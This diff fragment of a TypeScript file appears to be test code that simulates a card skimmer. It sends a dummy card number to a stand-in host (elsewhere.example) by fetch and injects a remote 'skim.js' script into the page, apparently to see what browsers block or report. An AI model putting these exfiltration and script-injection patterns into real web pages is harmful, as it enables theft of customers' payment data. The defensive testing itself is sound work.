@@ -86,13 +86,13 @@ async function steal(url: string) {
   await fetch(`${url}/card?number=4111111111111111`, { method: "POST", mode: "no-cors" }).catch(() => {});
 }
 
-/** And how it would come in. */
+/** How a skimmer would come in: as a script from another site. */
 const load = (url: string) =>
   document.head.append(
     Object.assign(document.createElement("script"), { src: `${url}/skim.js?card=4111111111111111` }),
   );
 
-/** Where the loot shall go, what has come back from there, and what browsers report. */
+/** A new address for what is stolen, the answers that came from it, and what browsers reported of it. */
 function provoke(page: Page) {
   const url = `https://elsewhere.example${PROVOKED}/${newId()}`;
   const answered: string[] = [];
